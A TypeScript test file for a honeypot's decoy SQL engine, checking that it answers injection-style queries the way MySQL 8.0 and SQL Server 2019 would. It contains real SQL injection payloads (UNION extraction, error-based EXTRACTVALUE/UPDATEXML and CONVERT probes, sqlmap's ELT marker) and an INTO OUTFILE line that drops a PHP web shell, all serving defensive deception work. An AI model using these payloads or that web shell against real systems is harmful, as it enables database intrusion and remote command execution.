// The decoy engine on the syntax attackers and injection payloads use beyond plain SELECTs: UNION,
// CASE, CAST/CONVERT, T-SQL arithmetic and conversion errors, MySQL's error-based XPath functions and
// SQL Server's catalogue views, each answered as MySQL 8.0 or SQL Server 2019 answers it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { execute, MAX_RESULT_ROWS, MAX_SCANNED_ROWS_PER_STATEMENT, type Result } from '../../../src/sensors/sql/engine.js';
import { generateDecoy } from '../../../src/sensors/sql/decoy-data.js';
import { DecoyState } from '../../../src/sensors/sql/decoy-state.js';
import { xpathError } from '../../../src/sensors/sql/xpath.js';
import { rows, sqlSession as session } from '../../helpers/sql-engine.js';

const decoy = generateDecoy({ seed: Buffer.alloc(16, 9), now: Date.UTC(2026, 0, 1), appDatabase: 'webshop' });
const view = new DecoyState(decoy).viewFor('198.51.100.40');

function run(sql: string, dialect: 'mysql' | 'tsql' = 'mysql'): Result {
  return execute(sql, session('webshop', dialect), view).result;
}

/** A MySQL error's code and message. */
function err(r: Result): [number, string] | Result {
  return r.kind === 'error' ? [r.code, r.message] : r;
}

/** The SQL Server message number and text the MSSQL session sends for an engine error of its own. */
function msg(r: Result): [number, string] | Result {
  return r.kind === 'error' && r.tsql ? [r.tsql.number, r.tsql.message] : r;
}

test('UNION [ALL|DISTINCT] joins SELECTs; ORDER BY and LIMIT after the last apply to the whole', () => {
  assert.deepEqual(rows(run('SELECT 1 UNION SELECT 2')), [[1], [2]]);
  assert.deepEqual(rows(run('SELECT 1 UNION SELECT 1')), [[1]]);
  assert.deepEqual(rows(run('SELECT 1 UNION ALL SELECT 1')), [[1], [1]]);
  assert.deepEqual(rows(run('SELECT 1 UNION DISTINCT SELECT 1')), [[1]]);
  // A DISTINCT union removes the duplicates of everything before it.
  assert.deepEqual(rows(run('SELECT 1 UNION ALL SELECT 1 UNION SELECT 2')), [[1], [2]]);
  assert.deepEqual(rows(run('SELECT 1 UNION SELECT 1 UNION ALL SELECT 1')), [[1], [1]]);
  const named = run('SELECT 2 AS n UNION SELECT 3 UNION SELECT 1 ORDER BY n DESC LIMIT 2');
  assert.deepEqual(rows(named), [[3], [2]]);
  assert.equal(named.kind === 'rows' && named.columns[0]!.name, 'n', 'the first SELECT names the columns');
  assert.deepEqual(rows(run('SELECT 5 UNION SELECT 4 ORDER BY 1 LIMIT 1, 1')), [[5]]);
  assert.deepEqual(rows(run('(SELECT id FROM users ORDER BY id DESC LIMIT 1) UNION (SELECT 0) ORDER BY 1')).length, 2);
  // The classic injection: the page's own query finds nothing, the union's row carries the loot.
  assert.deepEqual(rows(run('SELECT id, username FROM users WHERE id = -1 UNION SELECT 1, concat(user(), 0x3a, version())')), [[1, 'root@203.0.113.9:8.0.36']]);
  assert.deepEqual(err(run('SELECT 1, 2 UNION SELECT 1')), [1222, 'The used SELECT statements have a different number of columns']);
  assert.deepEqual(err(run('SELECT id FROM users UNION SELECT NULL, NULL')), [1222, 'The used SELECT statements have a different number of columns']);
  assert.deepEqual(err(run('SELECT 1 ORDER BY 1 UNION SELECT 2')), [1221, 'Incorrect usage of UNION and ORDER BY']);
  assert.deepEqual(err(run('SELECT 1 LIMIT 1 UNION SELECT 2')), [1221, 'Incorrect usage of UNION and LIMIT']);
  // INTO OUTFILE after the last SELECT writes the whole union (the web shell drop).
  const drop = execute("SELECT 1, 'a' UNION SELECT 2, '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/c.php'", session('webshop'), view);
  assert.deepEqual(drop.result, { kind: 'ok', affected: 2 });
  assert.equal(drop.files[0]!.data.toString('latin1'), "1\ta\n2\t<?php system($_GET[c]); ?>\n");
  // SQL Server: Msg 205; int has precedence over varchar, so a word in an int column fails (Msg 245).
  assert.deepEqual(msg(run('SELECT 1, 2 UNION SELECT 1', 'tsql')), [205, 'All queries combined using a UNION, INTERSECT or EXCEPT operator must have an equal number of expressions in their target lists.']);
  assert.deepEqual(msg(run("SELECT 1 UNION SELECT 'abc'", 'tsql')), [245, "Conversion failed when converting the varchar value 'abc' to data type int."]);
  assert.deepEqual(rows(run("SELECT 1 UNION SELECT 'abc'")), [[1], ['abc']], 'MySQL makes the column text');
  assert.deepEqual(rows(run('SELECT TOP 1 id FROM users UNION ALL SELECT 0', 'tsql')), [[1], [0]]);
});

test('UNION is bounded: result rows capped, a union reading too many rows is interrupted', () => {
  const big = rows(run('SELECT id FROM orders UNION ALL SELECT id FROM orders'));
  assert.equal(big.length, 1200);
  assert.ok(big.length <= MAX_RESULT_ROWS);
  const reads = Math.ceil(MAX_SCANNED_ROWS_PER_STATEMENT / 600) + 1;
  const t0 = Date.now();
  const many = run(Array.from({ length: reads }, () => 'SELECT id FROM orders').join(' UNION ALL '));
  assert.deepEqual(err(many), [1317, 'Query execution was interrupted']);
  const selects = run(Array.from({ length: 5000 }, (_, i) => `SELECT ${i}`).join(' UNION '));
  assert.equal(selects.kind, 'error');
  assert.ok(Date.now() - t0 < 3000, `took ${Date.now() - t0} ms`);
});

test('CASE WHEN ... THEN ... [ELSE ...] END and CASE x WHEN v THEN ... END', () => {
  assert.deepEqual(rows(run("SELECT CASE WHEN 1 = 1 THEN 'yes' ELSE 'no' END")), [['yes']]);
  assert.deepEqual(rows(run("SELECT CASE 2 WHEN 1 THEN 'a' WHEN 2 THEN 'b' END AS x")), [['b']]);
  assert.deepEqual(rows(run('SELECT CASE WHEN 0 THEN 1 END, CASE NULL WHEN NULL THEN 1 ELSE 2 END')), [[null, 2]]);
  const r = run("SELECT id, CASE WHEN id > 2 THEN 'big' ELSE 'small' END AS size FROM users ORDER BY size DESC, id LIMIT 2");
  assert.deepEqual(rows(r), [[1, 'small'], [2, 'small']]);
  assert.equal(r.kind === 'rows' && r.columns[1]!.name, 'size');
  assert.deepEqual(rows(run("SELECT SUM(CASE WHEN status = 'paid' THEN 1 ELSE 0 END) = COUNT(CASE WHEN status = 'paid' THEN 1 END) FROM orders")), [[1]]);
  // The boolean-blind probe: the answer depends on the server's version, as on a real one.
  assert.deepEqual(rows(run("SELECT CASE WHEN SUBSTRING(VERSION(), 1, 1) = '8' THEN 1 ELSE 0 END")), [[1]]);
  for (const bad of ['SELECT CASE END', 'SELECT CASE WHEN 1 THEN 2', 'SELECT CASE WHEN 1 END']) {
    const r = run(bad);
    assert.equal(r.kind === 'error' && r.code, 1064, bad);
  }
});

test("MySQL's CAST and CONVERT: its types, values bent rather than refused, other types a syntax error", () => {
  assert.deepEqual(rows(run("SELECT CAST('12abc' AS SIGNED), CAST(3.5 AS SIGNED), CAST(-3.5 AS SIGNED INTEGER), CAST(-1 AS UNSIGNED), CAST('abc' AS SIGNED)")), [[12, 4, -4, '18446744073709551615', 0]]);
  assert.deepEqual(rows(run("SELECT CAST(12.345 AS DECIMAL(5,2)), CAST(123456 AS DECIMAL(4,1)), CAST('7' AS DECIMAL)")), [['12.35', '999.9', '7']]);
  assert.deepEqual(rows(run("SELECT CAST('2024-02-30' AS DATE), CAST('2024-02-03 04:05:06' AS DATETIME), CAST('20240203' AS DATE), CAST('2024-02-03 04:05:06' AS TIME)")), [[null, '2024-02-03 04:05:06', '2024-02-03', '04:05:06']]);
  assert.deepEqual(rows(run("SELECT CAST(1 AS CHAR), CAST('abc' AS CHAR(2)), CAST('a' AS BINARY(3)), CONVERT('abc', CHAR(1)), CONVERT('x' USING utf8mb4), CAST(1 AS CHAR CHARACTER SET utf8mb4)")), [['1', 'ab', 'a\0\0', 'a', 'x', '1']]);
  assert.deepEqual(rows(run(`SELECT CAST('{"b": 1, "a": [1,2]}' AS JSON), CAST(1 AS JSON)`)), [['{"a": [1, 2], "b": 1}', '1']]);
  assert.deepEqual(err(run("SELECT CAST('abc' AS JSON)")), [3141, 'Invalid JSON text in argument 1 to function cast_as_json: "Invalid value." at position 0.']);
  assert.deepEqual(err(run('SELECT CAST(1 AS DECIMAL(70, 2))')), [1426, "Too-big precision 70 specified for 'CAST'. Maximum is 65."]);
  for (const type of ['INT', 'VARCHAR(10)', 'INTEGER', 'TEXT']) {
    const r = run(`SELECT CAST(1 AS ${type})`);
    assert.ok(r.kind === 'error' && r.code === 1064 && r.message.includes(`near '${type})'`), JSON.stringify(r));
  }
  // The usual blind probe compares a cast character's code.
  assert.deepEqual(rows(run("SELECT ASCII(SUBSTRING(CAST(DATABASE() AS CHAR), 1, 1)) > 100")), [[1]]);
});

test("SQL Server's CAST, CONVERT, TRY_CAST and TRY_CONVERT: its types, and its conversion errors", () => {
  const t = (sql: string): Result => run(sql, 'tsql');
  assert.deepEqual(rows(t("SELECT CAST('12' AS int), CAST(3.7 AS int), CONVERT(varchar(3), 'abcdef'), CAST(N'x' AS nvarchar(max)), CAST(12345 AS varchar(2)), CAST(1.5 AS decimal(5,2))")), [[12, 3, 'abc', 'x', '*', '1.50']]);
  assert.deepEqual(rows(t("SELECT TRY_CAST('abc' AS int), TRY_CONVERT(int, 'x'), TRY_CONVERT(int, '42'), CAST(0 AS datetime), CAST('2024-01-02' AS date), CONVERT(char(3), 'a')")), [[null, null, 42, '1900-01-01 00:00:00.000', '2024-01-02', 'a  ']]);
  assert.deepEqual(msg(t("SELECT CAST('abc' AS int)")), [245, "Conversion failed when converting the varchar value 'abc' to data type int."]);
  assert.deepEqual(msg(t("SELECT CAST(N'1.5' AS int)")), [245, "Conversion failed when converting the nvarchar value '1.5' to data type int."]);
  // Error-based injection: the server's banner comes back in the conversion error.
  assert.deepEqual(msg(t('SELECT CONVERT(int, @@version)')), [245, "Conversion failed when converting the nvarchar value '8.0.36' to data type int."]);
  assert.deepEqual(msg(t('SELECT CONVERT(int, DB_NAME())')), [245, "Conversion failed when converting the nvarchar value 'webshop' to data type int."]);
  assert.deepEqual(msg(t("SELECT CAST('99999999999' AS int)")), [248, "The conversion of the varchar value '99999999999' overflowed an int column. Use a larger integer column."]);
  assert.deepEqual(msg(t("SELECT CAST('abc' AS float)")), [8114, 'Error converting data type varchar to float.']);
  assert.deepEqual(msg(t("SELECT CAST('abc' AS decimal(5,2))")), [8114, 'Error converting data type varchar to numeric.']);
  assert.deepEqual(msg(t("SELECT CAST('x' AS datetime)")), [241, 'Conversion failed when converting date and/or time from character string.']);
  assert.deepEqual(msg(t('SELECT TRY_CAST(1 AS date)')), [529, 'Explicit conversion from data type int to date is not allowed.']);
  assert.deepEqual(msg(t('SELECT CAST(1 AS signed)')), [243, 'Type signed is not a defined system type.']);
  assert.deepEqual(msg(t("SELECT CAST('x' AS varchar(9000))")), [131, "The size (9000) given to the type 'varchar' exceeds the maximum allowed for any data type (8000)."]);
  assert.equal(t('SELECT CAST(1 AS int)').kind, 'rows', 'int is a type, not a column');
});

test('T-SQL arithmetic: + joins strings, int / int is an int, division by zero fails; MySQL keeps its own', () => {
  const t = (sql: string): Result => run(sql, 'tsql');
  assert.deepEqual(rows(t("SELECT 'a' + 'b', 10 / 3, 10.0 / 4, 7 % 3, 1 + '2', -7 / 2")), [['ab', 3, 2.5, 1, 3, -3]]);
  assert.deepEqual(rows(t("SELECT username + '@' + email FROM users WHERE id = 1"))[0]![0], `${rows(t('SELECT username FROM users WHERE id = 1'))[0]![0]}@${rows(t('SELECT email FROM users WHERE id = 1'))[0]![0]}`);
  assert.deepEqual(msg(t('SELECT 1 / 0')), [8134, 'Divide by zero error encountered.']);
  assert.deepEqual(msg(t('SELECT 5 % 0')), [8134, 'Divide by zero error encountered.']);
  assert.deepEqual(msg(t("SELECT 1 + 'abc'")), [245, "Conversion failed when converting the varchar value 'abc' to data type int."]);
  // The error-based probe: comparing a number with @@version puts the banner in the error.
  assert.deepEqual(msg(t('SELECT 1 WHERE 1 = @@version')), [245, "Conversion failed when converting the nvarchar value '8.0.36' to data type int."]);
  assert.deepEqual(msg(t("SELECT 'a' - 'b'")), [402, 'The data types varchar and varchar are incompatible in the subtract operator.']);
  assert.deepEqual(rows(t("SELECT id FROM users WHERE id = '2'")), [[2]]);
  // MySQL: + is numeric, a quotient has four more decimals than its dividend, division by zero is NULL.
  assert.deepEqual(rows(run("SELECT 'a' + 'b', 10 / 3, 10 / 2, 10.5 / 3, 1 / 0, 5 % 0, 'abc' / 2")), [[0, '3.3333', '5.0000', '3.50000', null, null, 0]]);
});

test('HOST_NAME() is the workstation name the T-SQL client logged in with; MySQL has no such function', () => {
  assert.deepEqual(rows(execute('SELECT HOST_NAME()', { ...session('webshop', 'tsql'), login: { host: 'KALI', app: 'sqlcmd', library: 'ODBC', atMs: 0 } }, view).result), [['KALI']]);
  assert.deepEqual(err(run('SELECT HOST_NAME()')), [1305, 'FUNCTION webshop.host_name does not exist']);
});

test("EXTRACTVALUE and UPDATEXML answer a path that is no XPath with MySQL's error 1105, the rest as a valid path", () => {
  assert.deepEqual(err(run('SELECT extractvalue(1, concat(0x7e, version()))')), [1105, "XPATH syntax error: '~8.0.36'"]);
  assert.deepEqual(err(run('SELECT updatexml(1, concat(0x7e, user()), 1)')), [1105, "XPATH syntax error: '~root@203.0.113.9'"]);
  assert.deepEqual(err(run('SELECT 1 AND extractvalue(1, concat(0x5c, database()))')), [1105, "XPATH syntax error: '\\webshop'"]);
  // The quoted path is cut at 32 characters.
  assert.deepEqual(err(run("SELECT extractvalue(1, concat(0x7e, repeat('a', 50)))")), [1105, `XPATH syntax error: '~${'a'.repeat(31)}'`]);
  // Where a path fails is where MySQL's parser stops (checked against MariaDB, which shares the code).
  const cases: [string, string | undefined][] = [
    ['8.0.36', "XPATH syntax error: '.36'"],
    ['root@localhost', "XPATH syntax error: '@localhost'"],
    ['abc def', "XPATH syntax error: 'def'"],
    ['a[~]', "XPATH syntax error: '~]'"],
    ['foo(1)', "XPATH syntax error: '(1)'"],
    ['', "XPATH syntax error: ''"],
    ['$x', "Unknown XPATH variable at: '$x'"],
    ['//a[@b="c"]/text()', undefined],
    ['count(/a) + 1', undefined],
    ['child::a/@x | /b', undefined],
  ];
  for (const [path, message] of cases) {
    const r = run(`SELECT extractvalue('<a/>', '${path}')`);
    if (message === undefined) assert.deepEqual(rows(r), [['']], path);
    else assert.deepEqual(err(r), [1105, message], path);
  }
  assert.deepEqual(rows(run("SELECT updatexml('<a/>', '/a', '<b/>'), extractvalue(NULL, '~')")), [['<a/>', null]]);
  // sqlmap's error-based form marks its answer with ELT.
  assert.deepEqual(err(run('SELECT id FROM users WHERE id=1 AND EXTRACTVALUE(5837,CONCAT(0x5c,0x7171787a71,(SELECT (ELT(5837=5837,1))),0x716b6a7171))')), [1105, "XPATH syntax error: '\\qqxzq1qkjqq'"]);
  assert.deepEqual(rows(run("SELECT ELT(2, 'a', 'b'), ELT(3, 'a', 'b'), FIELD('b', 'a', 'b'), FIELD('z', 'a')")), [['b', null, 2, 0]]);
  assert.deepEqual(err(run('SELECT extractvalue(1)')), [1582, "Incorrect parameter count in the call to native function 'extractvalue'"]);
  // Timing probes answer at once: the decoy never waits or burns CPU on an attacker's request.
  const t0 = Date.now();
  assert.deepEqual(rows(run("SELECT SLEEP(5), BENCHMARK(100000000, MD5('a'))")), [[0, 0]]);
  assert.ok(Date.now() - t0 < 500);
});

test("SQL Server's catalogue: sys.configurations, sys.server_principals, this session in sys.dm_exec_sessions", () => {
  const s = { ...session('webshop', 'tsql'), user: 'sa', login: { host: 'KALI', app: 'sqlmap', library: 'ODBC', atMs: Date.UTC(2026, 0, 2, 3, 0, 0) } };
  const q = (sql: string, extra: Partial<typeof s> = {}): Result => execute(sql, { ...s, ...extra }, view).result;
  const options = "SELECT name, value, value_in_use FROM sys.configurations WHERE name IN ('xp_cmdshell', 'show advanced options', 'Ole Automation Procedures', 'clr enabled') ORDER BY name";
  assert.deepEqual(rows(q(options)), [['clr enabled', 0, 0], ['Ole Automation Procedures', 0, 0], ['show advanced options', 0, 0], ['xp_cmdshell', 0, 0]]);
  const serverConfig = { configured: new Map([['xp_cmdshell', 1], ['show advanced options', 1]]), installed: new Map([['show advanced options', 1]]) };
  assert.deepEqual(rows(q(options, { serverConfig })), [['clr enabled', 0, 0], ['Ole Automation Procedures', 0, 0], ['show advanced options', 1, 1], ['xp_cmdshell', 1, 0]]);
  assert.deepEqual(rows(q("SELECT configuration_id, is_advanced FROM master.sys.configurations WHERE name = 'xp_cmdshell'")), [[16390, 1]]);
  const principals = rows(q("SELECT name, type_desc FROM sys.server_principals WHERE type = 'S'"));
  assert.deepEqual(principals.map((r) => r[0]), ['sa', '##MS_PolicyEventProcessingLogin##', 'webshop_app']);
  assert.ok(rows(q("SELECT name FROM sys.server_principals WHERE type_desc = 'SERVER_ROLE'")).some((r) => r[0] === 'sysadmin'));
  assert.ok(rows(q("SELECT name FROM sys.server_principals WHERE name = 'hacker'", { user: 'hacker' })).length === 1, 'the login in use exists');
  assert.deepEqual(rows(q('SELECT session_id, host_name, program_name, login_name, database_id, is_user_process FROM sys.dm_exec_sessions')), [[11, 'KALI', 'sqlmap', 'sa', 5, 1]]);
  assert.deepEqual(rows(q("SELECT DB_ID(), DB_ID('master'), DB_ID('nope'), APP_NAME()")), [[5, 1, null, 'sqlmap']]);
  assert.deepEqual(rows(q('SELECT name, database_id FROM sys.databases')).map((r) => r[1]), [1, 2, 3, 4, 5]);
});

test('subqueries: scalar, IN, EXISTS and derived tables, as the error-based and union payloads nest them', () => {
  assert.deepEqual(err(run('SELECT extractvalue(1, concat(0x7e, (SELECT user())))')), [1105, "XPATH syntax error: '~root@203.0.113.9'"]);
  assert.deepEqual(err(run('SELECT updatexml(1, concat(0x7e, (SELECT group_concat(table_name) FROM information_schema.tables WHERE table_schema = database())), 1)')), [1105, "XPATH syntax error: '~customers,orders,users,admins'"]);
  assert.deepEqual(rows(run('SELECT (SELECT 1), (SELECT COUNT(*) FROM users), (SELECT id FROM users WHERE id = -1)')), [[1, 40, null]]);
  assert.deepEqual(rows(run('SELECT id FROM users WHERE id = (SELECT MAX(id) FROM users)')), [[40]]);
  assert.deepEqual(rows(run('SELECT id FROM users WHERE id IN (SELECT 1 UNION SELECT 2) ORDER BY id')), [[1], [2]]);
  assert.deepEqual(rows(run('SELECT 3 NOT IN (SELECT 1 UNION SELECT NULL), 1 IN (SELECT 1 UNION SELECT NULL)')), [[null, 1]]);
  assert.deepEqual(rows(run('SELECT EXISTS (SELECT 1), NOT EXISTS (SELECT id FROM users WHERE id = -1)')), [[1, 1]]);
  assert.deepEqual(rows(run('SELECT * FROM (SELECT 1 AS a, 2 AS b UNION SELECT 3, 4) t WHERE a > 1')), [[3, 4]]);
  assert.deepEqual(rows(run('SELECT COUNT(*) FROM (SELECT id FROM users) AS u')), [[40]]);
  assert.deepEqual(err(run('SELECT * FROM (SELECT 1)')), [1248, 'Every derived table must have its own alias']);
  assert.deepEqual(err(run('SELECT (SELECT id FROM users)')), [1242, 'Subquery returns more than 1 row']);
  assert.deepEqual(err(run('SELECT (SELECT 1, 2)')), [1241, 'Operand should contain 1 column(s)']);
  assert.deepEqual(msg(run('SELECT (SELECT name FROM sys.databases)', 'tsql')), [512, 'Subquery returned more than 1 value. This is not permitted when the subquery follows =, !=, <, <= , >, >= or when the subquery is used as an expression.']);
  assert.deepEqual(msg(run('SELECT 1 WHERE 1 = (SELECT TOP 1 name FROM sys.databases)', 'tsql')), [245, "Conversion failed when converting the nvarchar value 'master' to data type int."]);
  // Bounded: a subquery runs once per statement, and a statement's SELECTs read a bounded number of rows.
  const t0 = Date.now();
  assert.deepEqual(rows(run('SELECT COUNT(*) FROM orders WHERE id > (SELECT MIN(id) FROM orders)')), [[599]]);
  assert.deepEqual(err(run(`SELECT ${Array.from({ length: 400 }, () => '(SELECT COUNT(*) FROM orders)').join(', ')}`)), [1317, 'Query execution was interrupted']);
  assert.deepEqual(err(run(`SELECT ${'(SELECT '.repeat(3000)}1${')'.repeat(3000)}`)), [1436, 'Thread stack overrun']);
  assert.ok(Date.now() - t0 < 3000, `took ${Date.now() - t0} ms`);
});

test('random unions, CASE and CAST text never throws in either dialect', () => {
  const words = fc.constantFrom('SELECT', '1', "'a'", 'NULL', 'id', 'FROM', 'users', 'UNION', 'ALL', 'DISTINCT', 'ORDER', 'BY', 'LIMIT', '(', ')', ',', 'CASE', 'WHEN', 'THEN', 'ELSE', 'END', 'CAST', 'CONVERT', 'TRY_CAST', 'AS', 'int', 'CHAR', 'SIGNED', 'DECIMAL(5,2)', 'varchar(max)', 'JSON', '+', '/', '%', '=', 'extractvalue', 'updatexml', '0x7e', 'version()', '@@version', 'EXISTS', 'IN', '(SELECT', 'x');
  fc.assert(
    fc.property(fc.array(words, { maxLength: 30 }).map((w) => w.join(' ')), fc.constantFrom<'mysql' | 'tsql'>('mysql', 'tsql'), (sql, dialect) => {
      const r = run(sql, dialect);
      assert.ok(['rows', 'ok', 'error'].includes(r.kind));
      assert.ok(!(r.kind === 'error' && r.message === 'Unknown error'), `engine fault on ${JSON.stringify(sql)}`);
    }),
    { numRuns: 2000 },
  );
  const pieces = fc.constantFrom('/', '//', 'a', '[', ']', '(', ')', '@', '*', '.', '..', '::', 'child', '1', "'", '"', '$', '~', ' ', '|', 'and', 'count', ',');
  fc.assert(
    fc.property(fc.oneof(fc.string({ maxLength: 60 }), fc.array(pieces, { maxLength: 40 }).map((p) => p.join(''))), (path) => {
      const m = xpathError(path);
      assert.ok(m === undefined || /^(XPATH syntax error|Unknown XPATH variable at): '/.test(m));
    }),
    { numRuns: 2000 },
  );
  const t0 = Date.now();
  for (const deep of ['('.repeat(200_000), '['.repeat(200_000), 'a['.repeat(100_000), '/a'.repeat(100_000) + '~']) assert.ok(xpathError(deep)!.startsWith('XPATH syntax error'));
  assert.ok(Date.now() - t0 < 2000, `took ${Date.now() - t0} ms`);
});
